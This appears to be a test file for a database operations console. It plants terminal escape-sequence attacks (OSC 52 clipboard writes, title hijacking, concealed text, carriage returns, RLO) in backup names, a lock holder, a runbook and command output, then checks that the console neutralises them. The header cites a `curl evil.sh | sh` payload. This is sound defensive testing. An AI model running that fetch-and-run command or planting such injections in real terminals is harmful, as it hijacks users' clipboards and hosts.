// Issue 11 item 2 on the console surfaces hostile-text-tmux does not drive, in a real terminal
// (tmux with applications allowed to set the clipboard) on the hostile demo
// (test/support/hostile-demo.ts): a backup whose file name carries an OSC 52 with a
// `curl evil.sh | sh` payload, an OSC 0 title and a CR, named by b's plan; a lock on the host whose
// holder carries them, named by the refusal r meets once confirmed; a runbook whose headings and
// prose carry them, in the runbook screen and in a maintenance window's Execute list; a
// maintenance test command that prints them, in the maintenance screen. Each: the placeholders on
// screen, the pane's title not the attacker's, no clipboard buffer, and capture-pane -e holding no
// OSC, no injected colour or conceal and no line drawn over.
import {
	copyFileSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	rmSync,
	statSync,
	utimesSync,
	writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {afterAll, afterEach, beforeAll, expect, it} from 'vitest';
import {parseDocument} from 'yaml';
import {cliPath, runCliAsync} from '../support/cli.js';
import {
	attack,
	attackShown,
	startHostileDemo,
	stolenTitle,
	holdLockAsAttacker,
	type HostileDemo,
} from '../support/hostile-demo.js';
import {openTerminal, type Terminal} from '../support/tmux-driver.js';
import {waitFor} from '../support/wait.js';

let dir: string;
let demo: HostileDemo;
/** The hostile demo's config plus a maintenance test command printing the attack and the hostile runbook. */
let config: string;
let runbook: string;
let stateDir: string;
let terminal: Terminal | undefined;

const columns = 200;

// A lone CR ends a Markdown line (CommonMark), so in a runbook the attack's CR splits its line: what
// comes before it is one line of text, the rest the next.
const beforeCr = (tag: string) => attackShown(tag).split('␍')[0]!;

/** The attack as printf writes it from a config line holding only printable ASCII (octal escapes). */
function printfAttack(tag: string): string {
	return attack(tag).replace(/[^\u0020-\u007e]|%|\\|'/gu, c =>
		[...Buffer.from(c)].map(b => `\\${b.toString(8).padStart(3, '0')}`).join(''),
	);
}

beforeAll(async () => {
	dir = mkdtempSync(path.join(os.tmpdir(), 'pg-ops-hostile-console-'));
	stateDir = path.join(dir, 'state');
	demo = await startHostileDemo(dir);

	// The newest backup: its name carries the whole attack (OSC 0, OSC 52, colour, conceal, CR, RLO).
	const backups = path.join(demo.info.root, 'opt', 'app', 'backups');
	const hostile = path.join(backups, demo.backupName);
	const newest = path.join(backups, `db_30000101_000000${attack('backup:')}.sql.gz`);
	copyFileSync(hostile, newest);
	const later = statSync(hostile).mtimeMs / 1000 + 60;
	utimesSync(newest, later, later);

	runbook = path.join(dir, 'hostile-runbook.md');
	writeFileSync(
		runbook,
		[
			`# Recovery ${attack('title:')}`,
			'',
			`## Check the version ${attack('heading:')}`,
			'',
			`Run this ${attack('prose:')} first.`,
			'',
			'```bash',
			'echo version-ok',
			'```',
			'',
		].join('\n'),
	);

	const doc = parseDocument(readFileSync(demo.config, 'utf8'));
	doc.setIn(['environments', 'demo', 'maintenance'], {
		test: {command: `printf '${printfAttack('test:')}\\n'`, timeoutSeconds: 60},
		runbooks: [runbook],
	});
	config = path.join(dir, 'hostile-console.yaml');
	writeFileSync(config, doc.toString());
}, 180_000);

afterEach(() => {
	terminal?.close();
	terminal = undefined;
});

afterAll(async () => {
	await demo?.stop();
	rmSync(dir, {recursive: true, force: true});
});

function open(args: string): Terminal {
	return openTerminal(`${process.execPath} ${cliPath} ${args}`, {
		columns,
		rows: 50,
		env: {PGOPS_STATE_DIR: stateDir, PGOPS_OPERATOR: 'carol@test'},
		serverOptions: {'set-clipboard': 'on'},
	});
}

/** What the attacks would have done to the terminal, had one byte of them reached it. */
function expectTerminalUntouched(t: Terminal): void {
	expect(t.tmux('display-message', '-p', '-t', 'main', '#{pane_title}').trim()).not.toBe(stolenTitle);
	expect(t.tmux('list-buffers')).toBe(''); // OSC 52 would have made one (set-clipboard on)
	const styled = t.screenWithStyles();
	expect(styled).not.toContain('\u001b]');
	expect(styled).not.toMatch(/\u001b\[(\d+;)*8m/); // conceal: Ink never uses it, the attack does
	// The attack's green would start exactly at "all good", its conceal at "hidden".
	expect(styled).not.toMatch(/\u001b\[[\d;]*m(all good|hidden)/);
	for (const line of t.screen().split('\n')) expect([...line].length).toBeLessThanOrEqual(columns);
}

/** The attack on screen, its CR and everything after it on the same line (nothing drawn over). */
function expectShown(screen: string, tag: string): void {
	expect(screen).toContain(attackShown(tag));
}

/** Confirms a dialog once it takes keys (its "keys ignored for a moment" gone). */
async function confirm(t: Terminal, plan: string | RegExp): Promise<string> {
	await t.waitFor(plan, 120_000);
	let screen = '';
	await waitFor(
		() => {
			screen = t.screen();
			return screen.includes('Run it?') && !screen.includes('keys ignored for a moment');
		},
		30_000,
		'the confirmation to take keys',
	);
	t.press('y');
	return screen;
}

/** q until pg-ops has exited: the console ignores keys for a moment after a dialog closes. */
async function quit(t: Terminal): Promise<void> {
	await waitFor(
		() => {
			if (t.isRunning()) t.press('q');
			return !t.isRunning();
		},
		30_000,
		'pg-ops to exit',
	);
}

/** The services pane has read the hostile unit state (a busy machine can time the first batches out). */
const panesRead = /app-orc\S*\s+failedunit:/;

const consoleArgs = () => `--config ${config} --env demo`;

it("b's backup picker lists the newest backup, whose file name carries OSC 52, OSC 0 and CR, with placeholders; it cannot be chosen", async () => {
	const t = (terminal = open(consoleArgs()));
	await t.waitFor(panesRead, 120_000);
	t.press('b');
	const picker = await t.waitFor('each checked with gunzip -t', 120_000);
	expectShown(picker, 'backup:');
	expect(picker).toContain('Restore which backup?');
	expectTerminalUntouched(t);
	// The newest, first under Cancel: restore-backup refuses such a name, so the picker does too.
	t.press('j');
	t.press('Enter');
	await t.waitFor('its name has spaces or control characters', 60_000);
	expect(t.screen()).not.toContain('Run it?');
	expectTerminalUntouched(t);
	t.press('Escape');
	await t.waitFor(panesRead, 120_000);
	await quit(t);
}, 300_000);

it("r confirmed while the host's lock is held: the refusal names the holder, whose name carries the attack, with placeholders", async () => {
	const lockFile = holdLockAsAttacker(demo);
	try {
		const t = (terminal = open(consoleArgs()));
		await t.waitFor(panesRead, 120_000);
		t.press('1');
		t.press('r');
		// Whichever service is selected (the worst row once read, else the first): the lock refuses any restart.
		await confirm(t, /\$ systemctl restart app-[a-z]+\.service/);
		const refused = await t.waitFor('holder:', 120_000);
		expectShown(refused, 'holder:');
		expectTerminalUntouched(t);
		t.press('Escape');
		await quit(t);
	} finally {
		rmSync(lockFile, {force: true});
	}
}, 300_000);

it('the runbook screen shows a runbook whose title, headings and prose carry the attack, with placeholders', async () => {
	const t = (terminal = open(`runbook ${runbook} ${consoleArgs()}`));
	const screen = await t.waitFor('Check the version', 60_000);
	expect(screen).toContain(beforeCr('title:'));
	expect(screen).toContain(beforeCr('heading:'));
	expect(screen).toContain(beforeCr('prose:'));
	expect(screen).toContain('⟨U+202E⟩evil');
	expectTerminalUntouched(t);
	await quit(t);
}, 300_000);

it("a maintenance window: the Execute step lists the hostile runbook, and the test command's hostile output is shown with placeholders", async () => {
	const maintenance = (...args: string[]) =>
		runCliAsync(['maintenance', ...args, '--env', 'demo', '--config', config], {
			env: {PGOPS_STATE_DIR: stateDir, PGOPS_OPERATOR: 'carol@test'},
			timeoutMs: 90_000,
		});
	for (const args of [
		['start', '--title', 'hostile output'],
		['skip', 'announce', '--reason', 'not needed here'],
		['skip', 'backup', '--reason', 'not needed here'],
	]) {
		const result = await maintenance(...args);
		expect(result.code, result.stderr).toBe(0);
	}
	const t = (terminal = open(consoleArgs()));
	await t.waitFor(panesRead, 120_000);
	t.press('m');
	const execute = await t.waitFor(/› · 3 Execute\s+pending/, 30_000);
	expect(execute).toContain(beforeCr('title:'));
	expectTerminalUntouched(t);
	t.press('d');
	await t.waitFor(/✓ 3 Execute\s+done/, 30_000);
	t.press('j');
	await t.waitFor(/› · 4 Test\s+pending/, 30_000);
	t.press('Enter');
	await confirm(t, 'maintenance test command on demo');
	const progress = await t.waitFor('DONE: maintenance test command', 120_000);
	expectShown(progress, 'test:');
	expectTerminalUntouched(t);
	t.press('Escape');
	const tested = await t.waitFor(/› ✓ 4 Test\s+done/, 30_000);
	expectShown(tested, 'test:');
	expect(tested).toContain('exit code 0');
	expectTerminalUntouched(t);
	t.press('Escape');
	await quit(t);
}, 300_000);

// Not a test of pg-ops: the fixture's own check that each attack really is in place on the host.
it('the attacks are planted as raw bytes', () => {
	const names = readdirSync(path.join(demo.info.root, 'opt', 'app', 'backups'));
	expect(names.some(name => name.includes(`\u001b]52;c;`) && name.includes('\r'))).toBe(true);
	expect(readFileSync(runbook, 'utf8')).toContain(`\u001b]0;${stolenTitle}\u0007`);
});
